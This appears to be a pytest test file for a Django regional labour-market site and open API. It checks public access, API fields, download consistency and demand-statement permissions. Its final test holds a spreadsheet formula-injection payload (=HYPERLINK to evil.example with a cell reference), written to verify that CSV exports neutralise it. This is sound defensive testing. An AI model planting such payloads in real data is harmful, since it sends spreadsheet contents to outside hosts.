# SPDX-License-Identifier: EUPL-1.2
"""The region pages and the open API: no login, exactly the open fields, the same figures in
the pages, the API and the downloads; partners state demand, providers subscribe."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Callable
from typing import Any

import pytest
import time_machine
from django.core import mail
from django.test import Client

from llo.core.audit import Actor
from llo.core.roles import Role
from llo.notifications import selectors as inbox
from llo.notifications.services import Recipient
from llo.people.models import Organisation, OrganisationKind, User
from llo.regions import exports
from llo.regions.models import DemandStatement
from llo.regions.services import demand, gap, subscriptions
from tests.regions.conftest import HENGELO, LASSER, MONTEUR, TWENTE

pytestmark = pytest.mark.django_db

D = dt.date
NOW = dt.datetime(2026, 6, 1, 12, tzinfo=dt.UTC)


@pytest.fixture
def twente(
    make_org: Callable[..., Organisation],
    make_provider: Callable[..., Any],
    make_offer: Callable[..., Any],
    make_user: Callable[..., User],
) -> dict[str, Any]:
    with time_machine.travel(NOW, tick=False):
        rwc = make_org("Regionaal Werkcentrum Twente")
        school = make_provider("Lasschool Twente")
        roc = make_provider("ROC van Twente", kind="public", gemeente=HENGELO)
        make_offer(
            school,
            "Lassen MIG/MAG",
            occupations=(LASSER,),
            skills=("lassen", "mig-mag-lassen"),
            runs=((D(2027, 2, 1), 12), (D(2027, 9, 1), 16)),
        )
        make_offer(
            roc,
            "Monteur mechatronica",
            occupations=(MONTEUR,),
            gemeenten=(HENGELO,),
            runs=((D(2027, 9, 1), 20),),
        )
        make_offer(
            school,
            "Lassen online theorie",
            occupations=(LASSER,),
            gemeenten=(),
            online=True,
            runs=((D(2027, 4, 1), 24),),
        )
        gap.recompute(actor=Actor.system("test"))
        st = demand.record(
            actor=Actor.system("test"),
            organisation=rwc,
            data=demand.DemandInput(
                region=TWENTE,
                occupation="lasser",
                skills=["TIG-lassen"],
                people=120,
                period_start=D(2027, 1, 1),
                period_end=D(2027, 12, 31),
                source="Enquête werkgevers Twente 2026",
                urgency="high",
                note="Vooral voor de maakindustrie.",
            ),
        )
    return {"rwc": rwc, "school": school, "statement": st, "user": make_user(rwc)}


def test_public_pages_without_login(twente: dict[str, Any], client: Client) -> None:
    with time_machine.travel(NOW, tick=False):
        for url in (
            "/regio",
            "/regio?beroep=lasser&jaar=2027",
            f"/regio/{TWENTE}?jaar=2027",
            f"/regio/{TWENTE}?jaar=2027&soort=vaardigheid",
            f"/regio/{TWENTE}/beroep/{LASSER}?jaar=2027",
            f"/regio/{TWENTE}/vaardigheid/tig-lassen?jaar=2027",
            f"/regio/{TWENTE}/aanbod?jaar=2027",
            f"/regio/{TWENTE}/vraag",
            f"/regio/vraag/{twente['statement'].pk}",
        ):
            response = client.get(url)
            assert response.status_code == 200, url
            body = response.content.decode()
            assert LASSER not in body.replace(f"/{LASSER}", ""), f"a bare code on {url}"
        page = client.get(f"/regio/{TWENTE}?jaar=2027").content.decode()
        assert "lasser" in page
        assert "120" in page
        assert client.get("/regio/AM99").status_code == 404
        assert client.get(f"/regio/{TWENTE}/beroep/9999.9").status_code == 404
        assert client.get("/regio/kaart.topojson").status_code == 200


def test_the_region_page_reads_in_a_fixed_number_of_queries(
    twente: dict[str, Any], client: Client, django_assert_max_num_queries: Any
) -> None:
    """The page reads whole sets (the summary in one aggregation, the page of cells with
    their number, this year's online row and last year's row together), never per row: the
    number of queries does not grow with the table (bench/gap: a region's page p95)."""
    from llo.regions import selectors

    with time_machine.travel(NOW, tick=False):
        with django_assert_max_num_queries(10):
            page = client.get(f"/regio/{TWENTE}?jaar=2027")
        assert page.status_code == 200
        body = page.content.decode()
        # A page past the end shows the last page.
        past = client.get(f"/regio/{TWENTE}?jaar=2027&pagina=99")
        assert past.status_code == 200
        assert "lasser" in past.content.decode()
        summary = selectors.summary(TWENTE, 2027)
        assert summary is not None
        assert (summary.totals.demand_people, summary.totals.gap) == (120, 120 - 28)
        assert summary.totals.online_seats == 24
        rows = selectors.gap_page(TWENTE, 2027).rows  # type: ignore[union-attr]
        lasser = next(r for r in rows if r.code == LASSER)
        assert (lasser.seats, lasser.online_seats, lasser.gap) == (28, 24, 92)
        assert "92" in body


def test_the_api_without_login_returns_exactly_the_open_fields(
    twente: dict[str, Any], client: Client
) -> None:
    with time_machine.travel(NOW, tick=False):
        rows = client.get(f"/api/v1/regions/{TWENTE}/gap", {"year": "2027"}).json()
        lasser = next(r for r in rows if r["code"] == LASSER)
        assert set(lasser) == set(exports.GAP_FIELDS)
        assert (lasser["peopleNeeded"], lasser["seats"], lasser["gap"], lasser["onlineSeats"]) == (
            120,
            28,
            92,
            24,
        )
        statements = client.get(f"/api/v1/regions/{TWENTE}/demand").json()
        assert set(statements[0]) == set(exports.STATEMENT_FIELDS)
        # Nothing personal: no user, no e-mail, no audit, only the organisation.
        text = json.dumps(statements)
        assert "user:" not in text
        assert twente["user"].username not in text
        assert statements[0]["statedBy"] == "Regionaal Werkcentrum Twente"
        portfolio = client.get(f"/api/v1/regions/{TWENTE}/portfolio", {"year": "2027"}).json()
        assert set(portfolio["offers"][0]) == set(exports.PORTFOLIO_FIELDS)
        assert portfolio["total"] == 3
        assert {o["providerKind"] for o in portfolio["offers"]} == {"public", "private"}
        map_rows = client.get("/api/v1/gap-map", {"year": "2027", "occupation": "gaslasser"}).json()
        assert len(map_rows) == 35
        assert set(map_rows[0]) == set(exports.MAP_FIELDS)
        twente_row = next(r for r in map_rows if r["region"] == TWENTE)
        assert (twente_row["label"], twente_row["gap"]) == ("lasser", 92)
        bad = client.get("/api/v1/gap-map", {"occupation": "verzorgende"})
        assert bad.status_code == 404
        assert bad.json()["invalidParams"][0]["code"] == "ambiguous"


def test_downloads_hold_the_same_figures_as_the_api(twente: dict[str, Any], client: Client) -> None:
    with time_machine.travel(NOW, tick=False):
        api = client.get(f"/api/v1/regions/{TWENTE}/gap", {"year": "2027", "format": "csv"})
        page = client.get(f"/regio/{TWENTE}/kloof.csv", {"jaar": "2027"})
        assert api["Content-Type"].startswith("text/csv")
        page_text = b"".join(page.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
        rows = list(csv.DictReader(io.StringIO(page_text), delimiter=";"))
        lasser = next(r for r in rows if r["code"] == LASSER and r["dimension"] == "occupation")
        assert (lasser["peopleNeeded"], lasser["seats"], lasser["gap"]) == ("120", "28", "92")
        as_json = json.loads(client.get(f"/regio/{TWENTE}/kloof.json", {"jaar": "2027"}).content)
        assert [r for r in as_json if r["dimension"] == "occupation"] == client.get(
            f"/api/v1/regions/{TWENTE}/gap", {"year": "2027"}
        ).json()


def test_a_partner_states_demand_in_a_page_and_a_subscribed_provider_is_notified(
    twente: dict[str, Any],
    client: Client,
    make_user: Callable[..., User],
    django_capture_on_commit_callbacks: Callable[..., Any],
) -> None:
    school_org = twente["school"].organisation
    provider = make_user(school_org, Role.OPLEIDER)
    client.force_login(provider)
    with time_machine.travel(NOW, tick=False):
        response = client.post(
            "/regio/abonnementen",
            {"occupation": "lasser", "region": "", "email": "planning@lasschool.example"},
        )
        assert response.status_code == 302
        client.logout()
        client.force_login(twente["user"])
        form = {
            "region": TWENTE,
            "occupation": "monteur industriële machines",
            "skills": "",
            "people": "60",
            "level": "eqf_4",
            "period_start": "2027-01-01",
            "period_end": "2027-12-31",
            "urgency": "normal",
            "source": "Sectorplan techniek Twente",
        }
        bad = client.post("/regio/vraag/nieuw", {**form, "people": "-60"})
        assert bad.status_code == 400
        assert "kleiner zijn dan 0" in bad.content.decode()
        with django_capture_on_commit_callbacks(execute=True):
            ok = client.post("/regio/vraag/nieuw", form)
            assert ok.status_code == 302
            welders = client.post(
                "/regio/vraag/nieuw", {**form, "occupation": "lasser", "people": "20"}
            )
            assert welders.status_code == 302
    assert DemandStatement.objects.filter(organisation=twente["rwc"]).count() == 3
    # Only the welding statement is in the provider's field.
    items = inbox.inbox(Recipient(organisation_id=school_org.pk))
    assert [i.text for i in items] == ["Nieuwe vraag in Twente: 20 mensen voor lasser."]
    assert [m.to for m in mail.outbox] == [["planning@lasschool.example"]]


def test_only_partners_state_demand_and_only_their_own(
    twente: dict[str, Any],
    client: Client,
    make_org: Callable[..., Organisation],
    make_user: Callable[..., User],
) -> None:
    person_like = make_org("Ministerie", OrganisationKind.MINISTRY)
    client.force_login(make_user(person_like, Role.BELEID))
    assert client.get("/regio/vraag/nieuw").status_code == 403
    other = make_user(make_org("Gemeente Enschede", OrganisationKind.MUNICIPALITY), Role.GEMEENTE)
    client.force_login(other)
    pk = twente["statement"].pk
    assert client.get(f"/regio/vraag/{pk}/wijzigen").status_code == 404
    assert client.post(f"/regio/vraag/{pk}/sluiten", {"reason": "filled"}).status_code == 404
    # Without a reason, and for an id nobody has, it is 404 too (it redirected silently).
    assert client.post(f"/regio/vraag/{pk}/sluiten", {}).status_code == 404
    assert client.post("/regio/vraag/999999/sluiten", {"reason": "filled"}).status_code == 404
    response = client.post(
        f"/api/v1/demand/{pk}/close", {"reason": "filled"}, content_type="application/json"
    )
    assert response.status_code == 404


def test_subscribing_to_a_whole_isco_group(twente: dict[str, Any]) -> None:
    sub = subscriptions.subscribe(
        actor=Actor.system("test"), organisation=twente["school"].organisation, occupation="7212"
    )
    assert sub.occupation_code == "7212"


def test_a_statement_that_starts_like_a_formula_is_neutralised_in_the_csv(
    twente: dict[str, Any], client: Client
) -> None:
    """Statements are free text of partners, opened by anybody in a spreadsheet (decision 011:
    llo's one CSV writer puts a quote before a formula)."""
    with time_machine.travel(NOW, tick=False):
        demand.update(
            actor=Actor.system("test"),
            organisation=twente["rwc"],
            pk=twente["statement"].pk,
            data=demand.DemandInput(
                region=TWENTE,
                occupation="lasser",
                people=120,
                period_start=D(2027, 1, 1),
                period_end=D(2027, 12, 31),
                source='=HYPERLINK("http://evil.example/?"&A1;"Klik")',
            ),
        )
        response = client.get(f"/api/v1/regions/{TWENTE}/demand", {"format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    row = next(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert row["source"].startswith("'=HYPERLINK(")
